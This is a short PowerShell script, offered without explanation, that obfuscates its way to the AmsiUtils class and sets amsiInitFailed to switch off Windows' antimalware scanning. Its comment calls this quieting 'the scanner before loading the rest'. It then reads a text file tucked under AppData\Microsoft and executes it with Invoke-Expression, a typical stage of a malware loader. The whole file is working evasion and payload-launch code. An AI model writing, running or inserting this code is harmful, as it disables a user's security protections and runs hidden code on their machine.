# quiet the scanner before loading the rest
try {
    [Ref].Assembly.GetType('System.Management.Automation.'+'Am'+'siUtils').GetField('amsiIn'+'itFailed','NonPublic,Static').SetValue($null,$true)
}
catch {
    $null = $_
}

$module = Get-Content -Path "$env:APPDATA\Microsoft\ms.txt" -Raw
Invoke-Expression -Command $module
